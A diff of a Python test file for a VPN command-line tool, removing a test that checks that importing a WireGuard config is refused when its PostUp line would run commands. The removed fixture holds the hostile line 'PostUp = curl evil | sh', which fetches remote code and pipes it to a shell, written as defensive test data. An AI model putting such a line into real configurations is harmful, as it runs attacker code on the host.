@@ -154,17 +154,6 @@ def test_people_who_dial_a_server_today_keep_their_keys(sanaga, open_):
     ]
 
 
-def test_a_server_s_file_that_would_run_commands_is_refused_at_its_line(sanaga, open_):
-    (sanaga.folder / "wg0.conf").write_text(
-        "[Interface]\nPostUp = curl evil | sh\n[Peer]\nPublicKey = x\n", encoding="utf-8"
-    )
-    answer = sanaga("vpn", "import", "wg0.conf", "--role", "doctor", "--site", "mora")
-    assert answer.code == 1
-    assert "wg0.conf:2" in answer.err
-    assert "wg0.conf:4" in answer.err
-    assert answer.out == ""
-
-
 def test_export_of_an_unknown_gateway_names_the_nearest(sanaga, open_):
     answer = sanaga("vpn", "site", "export", "yaounde-e2", "--because", "x", "--file", "f")
     assert answer.code == 1
